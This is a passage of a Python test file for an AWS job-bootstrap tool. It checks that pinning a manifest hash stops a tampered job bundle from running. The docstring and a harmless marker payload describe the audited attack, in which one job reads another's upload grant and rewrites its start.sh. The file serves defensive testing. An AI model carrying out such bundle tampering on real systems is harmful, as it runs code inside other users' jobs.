                          ["Body"].read()).hexdigest()


def test_F40_a_rewritten_bundle_runs_nowhere_its_manifest_pinned_by_the_user_data(group_lab):
    """F40: an instance of job A read job B's upload grant from B's bundle, rewrote B's
    start.sh and manifest (consistent with each other), and B's next replacement ran it.
    The launch now pins the manifest's sha256 in the group's user-data (--manifest-sha256):
    the replacement refuses the rewritten bundle, nothing of it runs, and the job ends
    rather than AWS starting one instance after another on it. Without the pin (a group
    launched before it) the attack is what the audit found: the marker is written."""
    lab = group_lab
    b = group_bundle(lab)
    pin = _stored_manifest_sha256(lab)
    put_record(lab, "attempts/1.json", {"attempt": 1, "instance": "i-0first", "by": "launch"})
    marker = lab.tmp / "pwned"
    _rewrite_start(lab, f"#!/bin/sh\ntouch {shlex.quote(str(marker))}\nexit 3\n".encode())

    done = run_bootstrap(lab, b["jobdir"], 60, *group_args(), "--manifest-sha256", pin)
    assert done.returncode == bootstrap.EXIT_MANIFEST, done.stderr
    assert done.stderr.count("\n") == 1 and "not the one the job was launched with" in \
        done.stderr and "the job is ended" in done.stderr, done.stderr
    assert not marker.exists() and not (Path(b["jobdir"]) / "status.json").exists()
    assert lab.present() == ([], [])  # the group and its template are gone

    unpinned = run_bootstrap(lab, b["jobdir"], 60, *group_args())
    wait_for(marker.exists, timeout=15, what="the rewritten start.sh to run unpinned")
    assert unpinned.returncode != 0


def test_F40_the_pinned_bundle_as_launched_starts(group_lab):
    lab = group_lab
    b = group_bundle(lab)
    done = run_bootstrap(lab, b["jobdir"], 60, *group_args(), "--manifest-sha256",
                         _stored_manifest_sha256(lab))
    assert done.returncode == 0, done.stderr
    assert json.loads((Path(b["jobdir"]) / bootstrap.STATUS_FILE).read_text())["ok"] is True


@pytest.mark.parametrize("pin", ["abc", "A" * 64, "0" * 63 + "g"])
def test_F40_a_pin_that_is_not_a_sha256_is_a_usage_error(group_lab, pin):
    lab = group_lab
    b = group_bundle(lab)
    done = run_bootstrap(lab, b["jobdir"], 60, *group_args(), "--manifest-sha256", pin)
    assert done.returncode == bootstrap.EXIT_USAGE and "--manifest-sha256" in done.stderr
